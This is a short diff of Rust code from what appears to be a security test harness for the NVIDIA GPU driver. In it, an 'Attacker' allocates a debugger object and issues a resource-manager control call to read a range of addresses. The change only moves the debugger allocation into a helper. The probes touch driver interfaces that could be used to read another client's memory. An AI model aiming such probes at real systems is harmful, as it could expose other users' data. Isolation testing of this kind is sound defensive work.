@@ -229,11 +229,7 @@ fn kernel_mapping(a: &Attacker) -> Verdict {
 /// A debugger of an object of its own reads a range of addresses.
 fn debugger(a: &Attacker) -> Verdict {
     const RANGE: u32 = OWN + 4;
-    let object = a.compute()?;
-    let mut params = [0; 12];
-    put_u32(&mut params, 4, a.client.handle);
-    put_u32(&mut params, 8, object);
-    a.alloc(rm::DEVICE_HANDLE, OWN + 3, 0x83de, &mut params)?;
+    let debugger = a.debugger()?;
     let mut params = rm::memory_params(a.client.handle, 2 * MIB);
     // NVOS32_ALLOC_FLAGS_VIRTUAL.
     put_u32(&mut params, 8, 0x8_0000);
@@ -244,7 +240,7 @@ fn debugger(a: &Attacker) -> Verdict {
     put_u32(&mut params, 0, RANGE);
     put_u32(&mut params, 4, 64);
     put_u64(&mut params, 16, read.as_mut_ptr() as u64);
-    a.control(OWN + 3, 0x83de_0315, &mut params)
+    a.control(debugger, 0x83de_0315, &mut params)
 }
 
 /// An event on the victim's subdevice. Its parameters are those of a context for DMA: the client
